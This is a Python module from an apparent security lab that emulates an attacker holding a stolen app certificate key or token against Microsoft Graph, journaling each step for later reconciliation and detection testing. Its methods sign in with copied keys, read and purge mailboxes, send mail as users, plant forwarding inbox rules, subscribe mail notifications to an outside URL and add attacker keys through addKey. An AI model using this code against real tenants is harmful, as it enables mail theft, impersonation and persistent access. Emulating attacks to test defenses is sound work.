"""The thief: an actor with a copied key or a copied token, who uses the same doors as everybody else.

He writes a journal of his own, one JSON object a line, before he asks (``"phase":"intent"``) and after he
was answered (``"phase":"done"``). The journal is the truth that a reconciliation is compared with; nothing
in it comes from the laboratory's state, only from what he was answered.
"""

import json
import ssl
import uuid
from collections.abc import Mapping
from pathlib import Path
from typing import Any, Self

import httpx
from cryptography import x509
from cryptography.hazmat.primitives.asymmetric import rsa
from cryptography.hazmat.primitives.serialization import load_pem_private_key

from counterfoil import clock
from counterfoil.lab import certificates, jwt, loot
from counterfoil.model.instant import rfc3339

ADDRESS = "203.0.113.77"
_AGENT = "python-requests/2.31.0"


class Journal:
    """The truth, as JSON lines."""

    def __init__(self, path: Path) -> None:
        path.parent.mkdir(parents=True, exist_ok=True)
        self._file = path.open("a", encoding="utf-8")

    def write(self, line: Mapping[str, Any]) -> None:
        """Add a line, with the time."""
        self._file.write(json.dumps({"time": rfc3339(clock.now()), **line}, ensure_ascii=False) + "\n")
        self._file.flush()

    def close(self) -> None:
        """Close the file."""
        self._file.close()


class Thief:
    """One thief at one address.

    Args:
        login: Base URL of the token service.
        graph: Base URL of Graph.
        ca: The authority to trust.
        journal: Where he writes what he does.
        address: Where his calls seem to come from.
    """

    def __init__(self, login: str, graph: str, ca: Path, journal: Path, *, address: str = ADDRESS) -> None:
        self._login, self._graph, self.address = login, graph, address
        self.journal = Journal(journal)
        context = ssl.create_default_context(cafile=str(ca))
        headers = {"X-Lab-Address": address, "User-Agent": _AGENT}
        self._client = httpx.Client(verify=context, headers=headers, timeout=30, trust_env=False)

    def __enter__(self) -> Self:
        return self

    def __exit__(self, *_: object) -> None:
        self.close()

    def close(self) -> None:
        """Leave."""
        self._client.close()
        self.journal.close()

    def sign_in(
        self,
        tenant: str,
        app_id: str,
        key_pem: str,
        certificate_pem: str,
        resource: str = "https://graph.microsoft.com",
    ) -> "Hold | None":
        """Get a token with a copied key; ``None`` if it is refused, which the journal says."""
        url = f"{self._login}/{tenant}/oauth2/v2.0/token"
        certificate = x509.load_pem_x509_certificate(certificate_pem.encode())
        now = clock.now().timestamp()
        claims = {
            "aud": url,
            "iss": app_id,
            "sub": app_id,
            "jti": str(uuid.uuid4()),
            "nbf": now,
            "iat": now,
            "exp": now + 600,
        }
        header, key = loot.header(certificate), load_pem_private_key(key_pem.encode(), None)
        assert isinstance(key, rsa.RSAPrivateKey)
        form = loot.token_form(app_id, jwt.sign(header, claims, key), resource)
        correlation = str(uuid.uuid4())
        thumbprint = certificates.thumbprints(certificate)[0].hex().upper()
        act = {
            "action": "sign-in",
            "tenant": tenant,
            "app": app_id,
            "thumbprint_sha1": thumbprint,
            "correlation_id": correlation,
            "address": self.address,
        }
        self.journal.write({**act, "phase": "intent"})
        answer = self._client.post(url, data=form, headers={"client-request-id": correlation})
        document = answer.json()
        done = {**act, "phase": "done", "status": answer.status_code, "ok": answer.is_success}
        if not answer.is_success:
            self.journal.write(
                {**done, "request_id": document.get("trace_id"), "error": (document.get("error_codes") or [None])[0]}
            )
            return None
        hold = Hold(self, document["access_token"], by="key")
        self.journal.write({**done, "request_id": answer.headers.get("x-ms-request-id"), "uti": hold.uti})
        return hold

    def replay(self, access_token: str) -> "Hold":
        """Use a token that was copied from somebody's memory."""
        return Hold(self, access_token, by="token")

    def call(self, token: str, method: str, path: str, **more: Any) -> httpx.Response:
        """Call Graph under a token, with a client-request-id of his own in ``crid``."""
        headers = {"Authorization": f"Bearer {token}", "client-request-id": more.pop("crid"), **more.pop("headers", {})}
        url = path if path.startswith("https://") else f"{self._graph}/v1.0{path}"
        return self._client.request(method, url, headers=headers, **more)


class Hold:
    """A token in the thief's hands, and what he can do with it."""

    def __init__(self, thief: Thief, token: str, *, by: str) -> None:
        self._thief, self.token, self._by = thief, token, by
        self.claims = jwt.read(token).claims
        self.uti = str(self.claims["uti"])

    def _do(
        self,
        action: str,
        method: str,
        path: str,
        *,
        mailbox: str = "",
        target: Mapping[str, Any] | None = None,
        **more: Any,
    ) -> httpx.Response:
        """Do one thing, with its two lines in the journal; ``target`` says what it is about."""
        crid = str(uuid.uuid4())
        act = {
            "action": action,
            "by": self._by,
            "tenant": self.claims["tid"],
            "app": self.claims["appid"],
            "uti": self.uti,
            "address": self._thief.address,
            "client_request_id": crid,
            "method": method,
            "path": path,
            "mailbox": mailbox,
            **(target or {}),
        }
        self._thief.journal.write({**act, "phase": "intent"})
        answer = self._thief.call(self.token, method, path, crid=crid, **more)
        got = {
            "request_id": answer.headers.get("request-id"),
            "message_ids": loot.message_ids(answer),
            "items": loot.item_ids(answer),
        }
        if target and target.get("message_ids"):
            got = {"request_id": got["request_id"]}
        self._thief.journal.write(
            {**act, **got, "phase": "done", "status": answer.status_code, "ok": answer.is_success}
        )
        return answer

    def works(self) -> bool:
        """Whether Graph still takes the token: a call that touches nothing."""
        return self._do("probe", "GET", "/subscriptions").status_code != 401

    def read(self, mailbox: str, *, folder: str = "inbox", limit: int = 10) -> list[dict[str, Any]]:
        """List a folder and fetch the MIME of each message; returns the messages."""
        answer = self._do(
            "list", "GET", f"/users/{mailbox}/mailFolders/{folder}/messages?$top={limit}", mailbox=mailbox
        )
        found: list[dict[str, Any]] = answer.json().get("value", []) if answer.is_success else []
        for message in found:
            self._do(
                "read",
                "GET",
                f"/users/{mailbox}/messages/{message['id']}/$value",
                mailbox=mailbox,
                target=loot.target(message),
            )
        return found

    def move(self, mailbox: str, message: Mapping[str, Any], destination: str = "archive") -> bool:
        """Move a message."""
        path = f"/users/{mailbox}/messages/{message['id']}/move"
        return self._do(
            "move", "POST", path, mailbox=mailbox, target=loot.target(message), json={"destinationId": destination}
        ).is_success

    def delete(self, mailbox: str, message: Mapping[str, Any], *, permanently: bool = False) -> bool:
        """Delete a message, softly or for good."""
        path = f"/users/{mailbox}/messages/{message['id']}"
        if permanently:
            return self._do(
                "purge", "POST", f"{path}/permanentDelete", mailbox=mailbox, target=loot.target(message)
            ).is_success
        return self._do("delete", "DELETE", path, mailbox=mailbox, target=loot.target(message)).is_success

    def send(self, mailbox: str, to: str, subject: str) -> bool:
        """Send mail as somebody, leaving no copy."""
        path = f"/users/{mailbox}/sendMail"
        return self._do("send", "POST", path, mailbox=mailbox, json=loot.letter(to, subject)).is_success

    def add_rule(self, mailbox: str, forward_to: str) -> bool:
        """Plant an inbox rule that forwards."""
        path = f"/users/{mailbox}/mailFolders/inbox/messageRules"
        return self._do("rule", "POST", path, mailbox=mailbox, json=loot.rule(forward_to)).is_success

    def subscribe(self, mailbox: str, url: str, until: str) -> bool:
        """Have every new message of a mailbox announced to a URL of his own; ``until`` is RFC 3339."""
        body = {
            "changeType": "created",
            "notificationUrl": url,
            "resource": f"/users/{mailbox}/messages",
            "expirationDateTime": until,
        }
        return self._do("subscribe", "POST", "/subscriptions", mailbox=mailbox, json=body).is_success

    def add_key(self, object_id: str, key_pem: str, new_certificate_pem: str) -> bool:
        """Plant a key of his own by addKey, with a proof that the copied key signs."""
        now = clock.now().timestamp()
        key = load_pem_private_key(key_pem.encode(), None)
        assert isinstance(key, rsa.RSAPrivateKey)
        proof = jwt.sign({"alg": "RS256", "typ": "JWT"}, loot.proof_claims(object_id, now), key)
        certificate = x509.load_pem_x509_certificate(new_certificate_pem.encode())
        body = {"keyCredential": loot.key_credential(certificate), "passwordCredential": None, "proof": proof}
        target = {"thumbprint_sha1": certificates.thumbprints(certificate)[0].hex().upper(), "object_id": object_id}
        return self._do("add-key", "POST", f"/applications/{object_id}/addKey", target=target, json=body).is_success
